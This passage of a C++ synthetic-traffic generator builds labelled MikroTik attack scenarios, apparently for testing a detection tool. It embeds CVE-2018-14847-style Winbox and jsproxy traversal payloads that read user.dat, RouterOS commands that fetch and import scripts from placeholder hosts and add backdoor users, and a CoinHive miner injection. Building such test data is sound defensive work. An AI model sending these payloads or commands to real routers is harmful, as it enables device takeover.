#include "tiktriage/synth.hpp"

#include <algorithm>
#include <cmath>
#include <fstream>
#include <json.hpp>
#include <unordered_map>

#include "tiktriage/classify.hpp"
#include "tiktriage/flow.hpp"
#include "tiktriage/packet.hpp"
#include "tiktriage/pcap.hpp"
#include "tiktriage/pptp.hpp"

namespace tiktriage {

using nlohmann::json;
using namespace std::literals;

std::map<std::string, double> default_mix() {
  std::map<std::string, double> mix;
  for (auto name : kScenarioNames) mix.emplace(name, 1.0);
  return mix;
}

namespace {

std::string valid_names() {
  std::string out;
  for (auto name : kScenarioNames) {
    if (!out.empty()) out += ", ";
    out += name;
  }
  return out;
}

bool valid_sensor_name(std::string_view s) {
  return !s.empty() && s.size() <= 32 && std::all_of(s.begin(), s.end(), [](char c) {
    return (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '_' || c == '-';
  });
}

std::map<std::string, double> effective_mix(const ScenarioConfig& c) { return c.mix.empty() ? default_mix() : c.mix; }

}  // namespace

void ScenarioConfig::validate() const {
  if (duration_days < 1 || duration_days > 3650) throw InvalidConfig("duration_days must be in [1, 3650]");
  if (start_day < 0 || start_day + duration_days > 0xFFFF) throw InvalidConfig("start date out of range");
  if (sensors.empty()) throw InvalidConfig("at least one sensor is required");
  if (sensors.size() > 200) throw InvalidConfig("at most 200 sensors are supported");
  std::set<std::string> seen;
  for (const auto& s : sensors) {
    if (!valid_sensor_name(s)) throw InvalidConfig("invalid sensor name '" + s + "' (use [a-z0-9_-])");
    if (!seen.insert(s).second) throw InvalidConfig("duplicate sensor '" + s + "'");
  }
  double total = 0.0;
  for (const auto& [name, weight] : effective_mix(*this)) {
    if (std::find(kScenarioNames.begin(), kScenarioNames.end(), name) == kScenarioNames.end()) {
      throw InvalidConfig("unknown scenario '" + name + "'; valid names: " + valid_names());
    }
    if (!std::isfinite(weight) || weight < 0.0) throw InvalidConfig("weight of '" + name + "' must be >= 0");
    if (weight > 1000.0) throw InvalidConfig("weight of '" + name + "' must be <= 1000");
    total += weight;
  }
  if (total <= 0.0) throw InvalidConfig("at least one scenario needs a positive weight");
  const auto mix = effective_mix(*this);
  if (auto it = mix.find("campaign_api_sweep"); it != mix.end() && it->second > 0.0 && sensors.size() < 3) {
    throw InvalidConfig("campaign_api_sweep needs at least 3 sensors");
  }
  if (bruteforce_overlap && !(*bruteforce_overlap >= 0.0 && *bruteforce_overlap <= 1.0)) {
    throw InvalidConfig("bruteforce_overlap must be in [0, 1]");
  }
  if (!(reuse_probability >= 0.0 && reuse_probability <= 1.0)) throw InvalidConfig("reuse_probability must be in [0, 1]");
  if (log_noise_per_day > 86400) throw InvalidConfig("log_noise_per_day must be <= 86400");
}

ScenarioConfig ScenarioConfig::parse_json(std::string_view text) {
  const json doc = json::parse(text, nullptr, false);
  if (doc.is_discarded() || !doc.is_object()) throw InvalidConfig("config is not a JSON object");
  ScenarioConfig c;
  try {
    for (const auto& [key, value] : doc.items()) {
      if (key == "seed") {
        c.seed = value.get<std::uint64_t>();
      } else if (key == "duration_days") {
        c.duration_days = value.get<int>();
      } else if (key == "start") {
        auto d = parse_date(value.get<std::string>());
        if (!d) throw InvalidConfig("start must be YYYY-MM-DD");
        c.start_day = *d;
      } else if (key == "sensors") {
        c.sensors = value.get<std::vector<std::string>>();
      } else if (key == "mix") {
        c.mix = value.get<std::map<std::string, double>>();
      } else if (key == "bruteforce_overlap") {
        if (!value.is_null()) c.bruteforce_overlap = value.get<double>();
      } else if (key == "reuse_probability") {
        c.reuse_probability = value.get<double>();
      } else if (key == "log_noise_per_day") {
        c.log_noise_per_day = value.get<std::size_t>();
      } else {
        throw InvalidConfig("unknown config key '" + key + "'");
      }
    }
  } catch (const json::exception& e) {
    throw InvalidConfig(std::string("config: ") + e.what());
  }
  c.validate();
  return c;
}

std::string ScenarioConfig::to_json() const {
  json j;
  j["seed"] = seed;
  j["duration_days"] = duration_days;
  j["start"] = format_date(start_day);
  j["sensors"] = sensors;
  j["mix"] = effective_mix(*this);
  j["bruteforce_overlap"] = bruteforce_overlap ? json(*bruteforce_overlap) : json(nullptr);
  j["reuse_probability"] = reuse_probability;
  j["log_noise_per_day"] = log_noise_per_day;
  return j.dump(2);
}

namespace {

constexpr std::string_view kActor = "admin";

const std::vector<std::string_view> kFetchHosts = {
    "7standby.example", "phonemus.example", "hitsmoby.example", "1awesome.example", "takebad1.example",
    "up0.example:31415",
};

const std::vector<std::string_view> kNoiseLines = {
    "interface,info ether1 link up (speed 1G, full duplex)",
    "interface,info ether1 link down",
    "system,info router rebooted",
    "dhcp,info dhcp-client on ether1 got IP address 10.0.0.2",
    "dhcp,info dhcp-client on ether1 lost IP address 10.0.0.2",
    "system,info ntp time synchronized",
    "firewall,info input: in:ether1 out:(unknown 0), proto UDP, len 76",
    "wireless,info wlan1 connected",
    "system,info configuration backup created",
    "script,info health check ok",
};

struct TableIvLine {
  std::string_view text;
  std::string_view signature;
};

const std::vector<TableIvLine> kTableIv = {
    {"PPTP server settings changed by admin", "log-tunnel-server-settings"},
    {"L2TP server settings changed by admin", "log-tunnel-server-settings"},
    {"SSTP server settings changed by admin", "log-tunnel-server-settings"},
    {"DHCP client changed", "log-dhcp-client-change"},
    {"PPTP server settings changed", "log-tunnel-server-settings"},
    {"SSTP server settings changed", "log-tunnel-server-settings"},
    {"L2TP server settings changed", "log-tunnel-server-settings"},
    {"PPP profile <default-encryption> changed by admin", "log-ppp-profile-change"},
    {"user support added by admin", "log-user-change"},
};

constexpr std::uint16_t kStaticCampaignPorts[] = {21, 80, 139, 161, 443, 445, 1723, 2000, 8080, 8291, 8728, 8729};

Ipv4 sensor_address(std::size_t idx) { return Ipv4(198, 51, 100, static_cast<std::uint8_t>(10 + idx)); }

struct LogLine {
  Micros ts;
  std::uint64_t seq;
  std::string text;
};

struct FlowTruth {
  std::string sensor;
  Ipv4 src;
  std::uint16_t sport;
  std::uint16_t dport;
  Micros first;
  bool syn;
  FlowState state;
};

struct Partition {
  std::string sensor;
  Ipv4 address;
  std::vector<PacketRecord> packets;
  std::vector<LogLine> logs;
  std::vector<FlowTruth> flows;
  std::set<int> chain_slots;
  std::set<int> tunnel_slots;
};

int terminal_rank(FlowState s) {
  switch (s) {
    case FlowState::SynOnly: return 0;
    case FlowState::HandshakeComplete: return 1;
    case FlowState::Data: return 2;
    case FlowState::Closed:
    case FlowState::Reset: return 3;
  }
  return 0;
}

/// Client/server TCP conversation; every packet lands in the partition.
class TcpSession {
 public:
  TcpSession(Partition& part, Rng& rng, Ipv4 client, std::uint16_t cport, Ipv4 server, std::uint16_t sport, Micros t0)
      : part_(part), rng_(rng), client_(client), server_(server), cport_(cport), sport_(sport), t_(t0), first_(t0) {
    cseq_ = static_cast<std::uint32_t>(rng_.next());
    sseq_ = static_cast<std::uint32_t>(rng_.next());
  }

  void set_client_isn(std::uint32_t isn) { cseq_ = isn; }

  void syn() {
    if ((sport_ == 23 || sport_ == 2323) && cseq_ == server_.value && !allow_mirai_) ++cseq_;
    emit(true, tcp_flag::kSyn, {});
    ++cseq_;
  }
  void synack() {
    emit(false, tcp_flag::kSyn | tcp_flag::kAck, {});
    ++sseq_;
  }
  void ack() { emit(true, tcp_flag::kAck, {}); }
  void handshake() {
    syn();
    synack();
    ack();
  }
  void client_send(std::span<const std::uint8_t> data) { send(true, data); }
  void server_send(std::span<const std::uint8_t> data) { send(false, data); }
  void client_send(std::string_view s) { send(true, {reinterpret_cast<const std::uint8_t*>(s.data()), s.size()}); }
  void server_send(std::string_view s) { send(false, {reinterpret_cast<const std::uint8_t*>(s.data()), s.size()}); }
  void client_rst() { emit(true, tcp_flag::kRst | tcp_flag::kAck, {}); }
  void server_rst() { emit(false, tcp_flag::kRst | tcp_flag::kAck, {}); }
  void close() {
    emit(true, tcp_flag::kFin | tcp_flag::kAck, {});
    ++cseq_;
    emit(false, tcp_flag::kFin | tcp_flag::kAck, {});
    ++sseq_;
    emit(true, tcp_flag::kAck, {});
  }
  void allow_mirai() { allow_mirai_ = true; }

  Micros first() const { return first_; }
  Micros last() const { return last_; }

  void finish() { part_.flows.push_back({part_.sensor, client_, cport_, sport_, first_, saw_syn_, state_}); }

 private:
  void send(bool from_client, std::span<const std::uint8_t> data) {
    constexpr std::size_t kMss = 1400;
    for (std::size_t off = 0; off < data.size(); off += kMss) {
      const auto chunk = data.subspan(off, std::min(kMss, data.size() - off));
      emit(from_client, tcp_flag::kPsh | tcp_flag::kAck, chunk);
      (from_client ? cseq_ : sseq_) += static_cast<std::uint32_t>(chunk.size());
    }
  }

  void emit(bool from_client, std::uint8_t flags, std::span<const std::uint8_t> payload) {
    if (!first_packet_) t_ += rng_.between(200, 25000);
    PacketRecord p;
    p.ts = t_;
    p.sensor_id = part_.sensor;
    p.src_ip = from_client ? client_ : server_;
    p.dst_ip = from_client ? server_ : client_;
    p.ip_proto = IpProto::Tcp;
    p.ip_proto_code = 6;
    p.src_port = from_client ? cport_ : sport_;
    p.dst_port = from_client ? sport_ : cport_;
    p.tcp_flags = flags;
    p.tcp_seq = from_client ? cseq_ : sseq_;
    p.tcp_ack = (flags & tcp_flag::kAck) ? (from_client ? sseq_ : cseq_) : 0;
    p.payload.assign(payload.begin(), payload.end());
    if (first_packet_) {
      first_ = t_;
      first_packet_ = false;
    }
    last_ = t_;
    track(from_client, flags, !payload.empty());
    part_.packets.push_back(std::move(p));
  }

  void track(bool fwd, std::uint8_t flags, bool data) {
    const bool syn = flags & tcp_flag::kSyn;
    const bool ack = flags & tcp_flag::kAck;
    if (syn) saw_syn_ = true;
    if (fwd && syn && !ack) syn_fwd_ = true;
    if (!fwd && syn && ack && syn_fwd_) synack_rev_ = true;
    auto advance = [&](FlowState to) {
      if (terminal_rank(to) > terminal_rank(state_)) state_ = to;
    };
    if (fwd && ack && !syn && synack_rev_) advance(FlowState::HandshakeComplete);
    if (data) advance(FlowState::Data);
    if (flags & tcp_flag::kRst) advance(FlowState::Reset);
    if (flags & tcp_flag::kFin) advance(FlowState::Closed);
  }

  Partition& part_;
  Rng& rng_;
  Ipv4 client_;
  Ipv4 server_;
  std::uint16_t cport_;
  std::uint16_t sport_;
  Micros t_;
  Micros first_;
  Micros last_ = 0;
  bool first_packet_ = true;
  std::uint32_t cseq_;
  std::uint32_t sseq_;
  bool allow_mirai_ = false;
  bool saw_syn_ = false;
  bool syn_fwd_ = false;
  bool synack_rev_ = false;
  FlowState state_ = FlowState::SynOnly;
};

Micros floor_second(Micros t) { return t - t % kMicrosPerSecond; }

class Generator {
 public:
  explicit Generator(const ScenarioConfig& cfg) : cfg_(cfg), mix_(effective_mix(cfg)), rng_(cfg.seed) {
    for (int i = 0; i < 4; ++i) attacker_cursor_[i] = 1;
  }

  GroundTruthManifest run(const FileSink& sink);

 private:
  using Scenario = void (Generator::*)(std::size_t, std::int64_t);

  // --- addresses -------------------------------------------------------
  Ipv4 fresh_attacker() {
    const auto block = static_cast<std::size_t>(rng_.below(4));
    std::uint32_t& cur = attacker_cursor_[block];
    while ((cur & 0xFF) == 0 || (cur & 0xFF) == 0xFF) ++cur;
    if (cur >= (1u << 15)) throw InvalidConfig("attacker address pool exhausted; lower the scenario weights");
    const Ipv4 ip((198u << 24 | 18u << 16) + (static_cast<std::uint32_t>(block) << 15) + cur);
    ++cur;
    return ip;
  }
  Ipv4 reusable_attacker() {
    if (!reusable_.empty() && rng_.chance(cfg_.reuse_probability)) return reusable_[rng_.below(reusable_.size())];
    const Ipv4 ip = fresh_attacker();
    reusable_.push_back(ip);
    return ip;
  }
  Ipv4 fresh_benign() {
    while ((benign_cursor_ & 0xFF) == 0 || (benign_cursor_ & 0xFF) == 0xFF) ++benign_cursor_;
    if (benign_cursor_ >= (1u << 22)) throw InvalidConfig("benign address pool exhausted");
    return Ipv4((100u << 24 | 64u << 16) + benign_cursor_++);
  }
  Ipv4 tunnel_endpoint() {
    const double u = rng_.unit();
    return Ipv4(192, 0, 2, static_cast<std::uint8_t>(10 + static_cast<int>(15.0 * u * u)));
  }
  std::uint16_t src_port(Ipv4 ip) {
    auto [it, fresh] = next_port_.try_emplace(ip.value, 0);
    if (fresh) it->second = static_cast<std::uint16_t>(1024 + Rng::mix(ip.value ^ cfg_.seed) % 30000);
    const std::uint16_t p = it->second;
    it->second = p >= 65535 ? 1024 : static_cast<std::uint16_t>(p + 1);
    return p;
  }

  // --- time ------------------------------------------------------------
  Micros day_base(std::int64_t day) const { return day * kMicrosPerDay; }
  Micros at(std::int64_t day, std::int64_t lo_s, std::int64_t hi_s) {
    return day_base(day) + rng_.between(lo_s * kMicrosPerSecond, hi_s * kMicrosPerSecond - 1);
  }
  Micros chain_slot(Partition& p, std::int64_t day) {
    constexpr int kSlots = 86400 / 120;
    if (static_cast<int>(p.chain_slots.size()) >= kSlots) {
      throw InvalidConfig("too many login chains for one sensor and day; lower the weights");
    }
    int slot;
    do {
      slot = static_cast<int>(rng_.below(kSlots));
    } while (!p.chain_slots.insert(slot).second);
    return day_base(day) + slot * 120 * kMicrosPerSecond;
  }
  Micros tunnel_slot(Partition& p, std::int64_t day) {
    constexpr int kSlots = 86400 / 900;
    if (static_cast<int>(p.tunnel_slots.size()) >= kSlots) {
      throw InvalidConfig("too many tunnels for one sensor and day; lower the weights");
    }
    int slot;
    do {
      slot = static_cast<int>(rng_.below(kSlots));
    } while (!p.tunnel_slots.insert(slot).second);
    return day_base(day) + slot * 900 * kMicrosPerSecond;
  }

  // --- output helpers ----------------------------------------------------
  void log(Partition& p, Micros ts, std::string_view topics, std::string_view message) {
    p.logs.push_back({floor_second(ts), log_seq_++, std::string(topics) + " " + std::string(message)});
  }
  void expect(AttackCategory cat, const Partition& p, Ipv4 src, Micros start, Micros end, std::string scenario,
              std::optional<std::string> sig = std::nullopt, std::optional<std::string> service = std::nullopt) {
    manifest_.events.push_back({cat, p.sensor, src, start, end, std::move(sig), std::move(service), std::move(scenario)});
  }
  Micros login(Partition& p, Micros ts, Ipv4 ip, std::string_view via, std::string_view scenario) {
    ts = floor_second(ts);
    log(p, ts, "system,info,account",
        "user " + std::string(kActor) + " logged in from " + ip.to_string() + " via " + std::string(via));
    std::string service(via);
    for (char& c : service) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
    expect(AttackCategory::LoginSuccess, p, ip, ts, ts, std::string(scenario), std::nullopt, service);
    return ts;
  }

  // --- scenarios ---------------------------------------------------------
  void benign_web(std::size_t s, std::int64_t day);
  void cve_traversal(std::size_t s, std::int64_t day);
  void login_winbox(std::size_t s, std::int64_t day);
  void login_ftp(std::size_t s, std::int64_t day);
  void bruteforce(std::size_t s, std::int64_t day, bool ssh);
  void bruteforce_ssh(std::size_t s, std::int64_t day) { bruteforce(s, day, true); }
  void bruteforce_telnet(std::size_t s, std::int64_t day) { bruteforce(s, day, false); }
  void mirai_scan(std::size_t s, std::int64_t day);
  void pptp_tunnel(std::size_t s, std::int64_t day);
  void sstp_tunnel_log(std::size_t s, std::int64_t day);
  void script_fetch(std::size_t s, std::int64_t day);
  void miner_inject(std::size_t s, std::int64_t day);
  void dns_changer(std::size_t s, std::int64_t day);
  void campaign_static_port(std::size_t s, std::int64_t day);
  void campaign_api_sweep(std::size_t s, std::int64_t day);
  void noise(std::size_t s, std::int64_t day);

  std::vector<std::string> fetch_script_lines();
  Micros http_post_script(Partition& p, Ipv4 ip, Micros t0, const std::vector<std::string>& lines);

  void plan_bruteforce_sources(const std::map<std::pair<std::size_t, std::int64_t>, std::vector<std::size_t>>& counts);
  void flush_day(std::int64_t day, const FileSink& sink);
  void finalize();

  const ScenarioConfig& cfg_;
  std::map<std::string, double> mix_;
  Rng rng_;
  std::uint32_t attacker_cursor_[4];
  std::uint32_t benign_cursor_ = 1;
  std::vector<Ipv4> reusable_;
  std::unordered_map<std::uint32_t, std::uint16_t> next_port_;
  std::vector<Ipv4> ssh_sources_;
  std::vector<Ipv4> telnet_sources_;
  std::size_t ssh_next_ = 0;
  std::size_t telnet_next_ = 0;
  std::uint64_t log_seq_ = 0;
  std::uint64_t script_counter_ = 0;
  std::vector<Partition> parts_;
  std::vector<FlowTruth> all_flows_;
  GroundTruthManifest manifest_;
};

// ---------------------------------------------------------------------------

void Generator::benign_web(std::size_t s, std::int64_t day) {
  static const std::vector<std::string_view> kPaths = {"/", "/webfig/", "/favicon.ico", "/graphs/", "/help/"};
  Partition& p = parts_[s];
  const Ipv4 client = fresh_benign();
  TcpSession t(p, rng_, client, src_port(client), p.address, 80, at(day, 0, 86400 - 30));
  t.handshake();
  const auto path = kPaths[rng_.below(kPaths.size())];
  t.client_send("GET " + std::string(path) + " HTTP/1.1\r\nHost: " + p.address.to_string() +
                "\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n\r\n");
  std::string body = "<html><head><title>RouterOS router configuration page</title></head><body>";
  const auto filler = rng_.between(200, 2400);
  for (std::int64_t i = 0; i < filler; i += 40) body += "<p>mikrotik routeros webfig status</p>\n";
  body += "</body></html>\n";
  t.server_send("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " + std::to_string(body.size()) +
                "\r\n\r\n" + body);
  t.close();
  t.finish();
}

void Generator::cve_traversal(std::size_t s, std::int64_t day) {
  Partition& p = parts_[s];
  const Ipv4 ip = reusable_attacker();
  const int variant = static_cast<int>(rng_.below(5));
  const Micros t0 = at(day, 0, 86400 - 30);
  std::string sig;
  std::string service;
  std::uint16_t port = 0;
  switch (variant) {
    case 0: port = 8291; sig = "mt-cve-2018-14847-winbox-traversal"; service = "WINBOX"; break;
    case 1: port = 80; sig = "mt-cve-2019-3943-jsproxy-traversal"; service = "WEB"; break;
    case 2: port = 139; sig = "mt-cve-2018-7445-smb-overflow"; service = "NETBIOS"; break;
    case 3: port = 80; sig = "mt-cve-2018-1156-licupgr-overflow"; service = "WEB"; break;
    default: port = 8291; sig = "mt-cve-2019-3924-winbox-agent-proxy"; service = "WINBOX"; break;
  }
  TcpSession t(p, rng_, ip, src_port(ip), p.address, port, t0);
  t.handshake();
  switch (variant) {
    case 0: {
      std::string req = "\x68\x01\x00\x66M2"s;
      req += "\x05\x00\xff\x01\x06\x00\xff\x09\x05\x07\x00\xff\x09\x07\x01\x00\x00\x21\x35"s;
      req += "/////./..//////./..//////./../flash/rw/store/user.dat";
      req += "\x02\x00\xff\x88\x02\x00\x00\x00\x00\x00\x08\x00\x00\x00\x01\x00\xff\x88\x02\x00\x02\x00\x00" "\x00\x02\x00\x00\x00"s;
      t.client_send(req);
      std::string resp = "\x39\x01\x00\x37M2"s;
      for (int i = 0; i < 12; ++i) resp.push_back(static_cast<char>(rng_.below(256)));
      resp += "\x01\x00\xfe\x00\x00\x00\x00\x00"s;
      t.server_send(resp);
      std::string read = "\x3b\x01\x00\x39M2"s;
      read += "\x05\x00\xff\x01\x06\x00\xff\x09\x06\x01\x00\xfe\x09\x22\x03\x00\xff\x09\x02"s;
      t.client_send(read);
      std::string file = "M2";
      for (int i = 0; i < 180; ++i) file.push_back(static_cast<char>(rng_.below(256)));
      t.server_send(file);
      t.close();
      break;
    }
    case 1: {
      const std::string body = "\x1a\x00\x00\x00msg=../../../../../../rw/store/user.dat&op=read&cnt=1\n"s;
      t.client_send("POST /jsproxy HTTP/1.1\r\nHost: " + p.address.to_string() +
                    "\r\nContent-Type: msg\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
      std::string reply = "HTTP/1.1 200 OK\r\nContent-Type: msg\r\n\r\n";
      for (int i = 0; i < 96; ++i) reply.push_back(static_cast<char>('a' + rng_.below(26)));
      t.server_send(reply);
      t.close();
      break;
    }
    case 2: {
      std::string req = "\x81\x00\x01\x04\x20"s;
      for (int i = 0; i < 120; ++i) req += "CA";
      req.push_back('\0');
      t.client_send(req);
      t.server_rst();
      break;
    }
    case 3: {
      std::string name(static_cast<std::size_t>(rng_.between(260, 600)), 'A');
      t.client_send("GET /ssl_conn.php?usrname=" + name + "&passwd=x&softkey=y&fix=z HTTP/1.1\r\nHost: " +
                    p.address.to_string() + "\r\n\r\n");
      t.server_rst();
      break;
    }
    default: {
      std::string req = "\x40\x01\x00\x3eM2"s;
      req += "\x01\x00\xff\x88\x02\x00\x68\x00\x00\x00\x01\x00\xff\x08\x01\x00\x00\x00"s;
      req += "/nova/bin/agent";
      req += "\x03\x00\xff\x09\x02\x0b\x00\x00\x00"s;
      t.client_send(req);
      std::string resp = "\x20\x01\x00\x1eM2"s;
      for (int i = 0; i < 24; ++i) resp.push_back(static_cast<char>(rng_.below(256)));
      t.server_send(resp);
      t.close();
      break;
    }
  }
  t.finish();
  expect(AttackCategory::CveExploit, p, ip, t.first(), t.last(), "cve_traversal", sig, service);
}

void Generator::login_winbox(std::size_t s, std::int64_t day) {
  Partition& p = parts_[s];
  const Ipv4 ip = reusable_attacker();
  const Micros slot = chain_slot(p, day);
  Micros ts = login(p, slot + rng_.between(0, 10) * kMicrosPerSecond, ip, "winbox", "login_winbox");
  if (!rng_.chance(0.6)) return;
  const auto n = rng_.between(1, 3);
  for (std::int64_t i = 0; i < n; ++i) {
    ts += rng_.between(10, 30) * kMicrosPerSecond;
    const auto& line = kTableIv[rng_.below(kTableIv.size())];
    log(p, ts, "system,info", line.text);
    std::optional<std::string> service;
    if (line.text.starts_with("PPTP") || line.text.starts_with("L2TP") || line.text.starts_with("SSTP")) {
      service = std::string(line.text.substr(0, 4));
    }
    expect(AttackCategory::OtherSignature, p, ip, ts, ts, "login_winbox", std::string(line.signature), service);
  }
}

void Generator::login_ftp(std::size_t s, std::int64_t day) {
  Partition& p = parts_[s];
  const Ipv4 ip = reusable_attacker();
  login(p, chain_slot(p, day) + rng_.between(0, 30) * kMicrosPerSecond, ip, "ftp", "login_ftp");
}

void Generator::bruteforce(std::size_t s, std::int64_t day, bool ssh) {
  Partition& p = parts_[s];
  const Ipv4 ip = ssh ? ssh_sources_.at(ssh_next_++) : telnet_sources_.at(telnet_next_++);
  const std::uint16_t port = ssh ? 22 : 23;
  const bool slow = rng_.chance(0.15);
  const Micros t0 = at(day, 0, 86400 - 200);
  std::vector<Micros> starts;
  if (slow) {
    for (int i = 0; i < 6; ++i) starts.push_back(t0 + i * 15 * kMicrosPerSecond);
  } else {
    const auto n = rng_.between(5, 12);
    for (std::int64_t i = 0; i < n; ++i) starts.push_back(t0 + rng_.between(0, 55 * kMicrosPerSecond - 1));
    std::sort(starts.begin(), starts.end());
  }
  Micros lo = 0;
  Micros hi = 0;
  for (std::size_t i = 0; i < starts.size(); ++i) {
    TcpSession t(p, rng_, ip, src_port(ip), p.address, port, starts[i]);
    t.handshake();
    if (ssh) {
      t.server_send("SSH-2.0-ROSSSH\r\n");
      t.client_send("SSH-2.0-libssh_0.6.3\r\n");
    } else {
      t.server_send("\xff\xfd\x18\xff\xfd\x20Login: ");
      t.client_send(rng_.chance(0.5) ? "admin\r\n" : "root\r\n");
    }
    t.client_rst();
    t.finish();
    Micros first = t.first();
    if (rng_.chance(0.5)) {
      log(p, first, "system,error,critical",
          "login failure for user " + std::string(rng_.chance(0.5) ? "admin" : "root") + " from " + ip.to_string() +
              " via " + (ssh ? "ssh" : "telnet"));
      first = floor_second(first);
    }
    lo = i == 0 ? first : std::min(lo, first);
    hi = std::max(hi, t.first());
  }
  if (!slow) {
    expect(AttackCategory::BruteForce, p, ip, lo, hi, ssh ? "bruteforce_ssh" : "bruteforce_telnet", std::nullopt,
           ssh ? "SSH" : "TELNET");
  }
}

void Generator::mirai_scan(std::size_t s, std::int64_t day) {
  Partition& p = parts_[s];
  const Ipv4 ip = fresh_attacker();
  const auto n = rng_.between(1, 4);
  Micros t = at(day, 0, 86400 - 600);
  Micros first = 0;
  Micros last = 0;
  for (std::int64_t i = 0; i < n; ++i) {
    if (i > 0) t += rng_.between(62, 120) * kMicrosPerSecond;
    TcpSession probe(p, rng_, ip, src_port(ip), p.address, rng_.chance(0.7) ? 23 : 2323, t);
    probe.allow_mirai();
    probe.set_client_isn(p.address.value);
    probe.syn();
    probe.finish();
    if (i == 0) first = probe.first();
    last = probe.first();
  }
  expect(AttackCategory::MiraiScan, p, ip, first, last, "mirai_scan", std::nullopt, "TELNET");
}

void Generator::pptp_tunnel(std::size_t s, std::int64_t day) {
  Partition& p = parts_[s];
  const Ipv4 endpoint = tunnel_endpoint();
  const Micros slot = tunnel_slot(p, day);
  TcpSession t(p, rng_, endpoint, src_port(endpoint), p.address, 1723, slot + rng_.between(0, 60) * kMicrosPerSecond);
  t.handshake();
  const bool ok = rng_.chance(0.85);
  const std::uint8_t result = ok ? 1 : static_cast<std::uint8_t>(rng_.between(2, 5));
  t.client_send(pptp::build_sccrq("local", "MikroTik"));
  t.server_send(pptp::build_sccrp(result, "MikroTik", "MikroTik"));
  t.close();
  t.finish();
  if (!ok) return;
  Micros start = t.first();
  Micros end = t.last();
  if (rng_.chance(0.5)) {
    const Micros ts = floor_second(t.first()) + rng_.between(2, 60) * kMicrosPerSecond;
    log(p, ts, "pptp,ppp,info", "pptp tunnel established to " + endpoint.to_string());
    end = std::max(end, ts);
  }
  expect(AttackCategory::TunnelEstablished, p, endpoint, start, end, "pptp_tunnel", std::nullopt, "PPTP");
}

void Generator::sstp_tunnel_log(std::size_t s, std::int64_t day) {
  Partition& p = parts_[s];
  const Ipv4 endpoint = tunnel_endpoint();
  const Micros ts = floor_second(tunnel_slot(p, day) + rng_.between(0, 300) * kMicrosPerSecond);
  log(p, ts, "sstp,ppp,info", "sstp tunnel established to " + endpoint.to_string());
  expect(AttackCategory::TunnelEstablished, p, endpoint, ts, ts, "sstp_tunnel_log", std::nullopt, "SSTP");
}

std::vector<std::string> Generator::fetch_script_lines() {
  const double u = rng_.unit();
  const auto host = kFetchHosts[static_cast<std::size_t>(static_cast<double>(kFetchHosts.size()) * u * u)];
  const std::string name = "script" + std::to_string(++script_counter_) + ".rsc";
  std::vector<std::string> lines;
  const std::string url = "http://" + std::string(host) + "/" + name;
  if (rng_.chance(0.5)) {
    lines.push_back("/tool fetch url=\"" + url + "\" mode=http dst-path=" + name);
  } else {
    lines.push_back("/tool fetch url=" + url + " dst-path=" + name);
  }
  lines.push_back("/import file-name=" + name);
  static const std::vector<std::string_view> kExtras = {
      "/file remove " ,
      "/system scheduler add name=upd interval=1h on-event=",
      "/ip socks set enabled=yes port=",
      "/ip service set telnet disabled=no",
      "/user set admin password=",
      "/system ntp client set enabled=yes",
      "/tool sniffer set streaming-enabled=yes streaming-server=",
      "/ip firewall filter add chain=input action=accept",
      "/user add name=support group=full password=",
      "/system script add name=upd source=",
  };
  const auto extra = rng_.between(0, 3);
  for (std::int64_t i = 0; i < extra; ++i) {
    std::string line(kExtras[rng_.below(kExtras.size())]);
    if (line.back() == '=' || line.back() == ' ') line += std::to_string(rng_.between(1000, 9999));
    lines.push_back(line);
  }
  return lines;
}

Micros Generator::http_post_script(Partition& p, Ipv4 ip, Micros t0, const std::vector<std::string>& lines) {
  std::string body;
  for (const auto& l : lines) body += l + "\n";
  TcpSession t(p, rng_, ip, src_port(ip), p.address, 80, t0);
  t.handshake();
  t.client_send("POST /rest/system/script HTTP/1.1\r\nHost: " + p.address.to_string() +
                "\r\nContent-Type: text/plain\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
  t.server_send("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
  t.close();
  t.finish();
  return t.first();
}

namespace {
std::string join_lines(const std::vector<std::string>& lines) {
  std::string out;
  for (const auto& l : lines) out += (out.empty() ? "" : "; ") + l;
  return out;
}
}  // namespace

void Generator::script_fetch(std::size_t s, std::int64_t day) {
  Partition& p = parts_[s];
  const Ipv4 ip = fresh_attacker();
  const auto lines = fetch_script_lines();
  const std::string body = join_lines(lines);
  const double v = rng_.unit();
  if (v < 0.2) {
    const Micros ts = http_post_script(p, ip, at(day, 0, 86400 - 30), lines);
    expect(AttackCategory::ScriptScheduled, p, ip, ts, ts, "script_fetch");
    return;
  }
  const Micros slot = chain_slot(p, day);
  const Micros lt = login(p, slot + rng_.between(0, 10) * kMicrosPerSecond, ip, "winbox", "script_fetch");
  const Micros st = lt + rng_.between(15, 60) * kMicrosPerSecond;
  log(p, st, "system,info", "new script scheduled by " + std::string(kActor) + ": " + body);
  expect(AttackCategory::ScriptScheduled, p, ip, st, st, "script_fetch");
  if (v >= 0.8) http_post_script(p, ip, st + rng_.between(1, 40) * kMicrosPerSecond, lines);
}

void Generator::miner_inject(std::size_t s, std::int64_t day) {
  Partition& p = parts_[s];
  const Ipv4 ip = fresh_attacker();
  const auto host = kFetchHosts[rng_.below(kFetchHosts.size())];
  if (rng_.chance(0.4)) {
    TcpSession t(p, rng_, ip, src_port(ip), p.address, 80, at(day, 0, 86400 - 30));
    t.handshake();
    const std::string html = "<html><head><script src=\"http://" + std::string(host) + "/" +
                             std::string(kMinerMarker) +
                             "\"></script><script>var miner=new CoinHive.Anonymous('k');miner.start();</script>"
                             "</head><body>error</body></html>\n";
    t.client_send("PUT /webproxy/error.html HTTP/1.1\r\nHost: " + p.address.to_string() +
                  "\r\nContent-Type: text/html\r\nContent-Length: " + std::to_string(html.size()) + "\r\n\r\n" + html);
    t.server_send("HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n");
    t.close();
    t.finish();
    expect(AttackCategory::MinerInjection, p, ip, t.first(), t.last(), "miner_inject", std::nullopt, "WEB");
    return;
  }
  const std::string body = "/ip proxy set enabled=yes port=8080; /ip proxy access add action=deny redirect-to=" +
                           std::string(host) + "; /ip firewall nat add chain=dstnat protocol=tcp dst-port=80 "
                           "action=redirect to-ports=8080; /ip proxy set error=<script src=http://" +
                           std::string(host) + "/" + std::string(kMinerMarker) + "></script>";
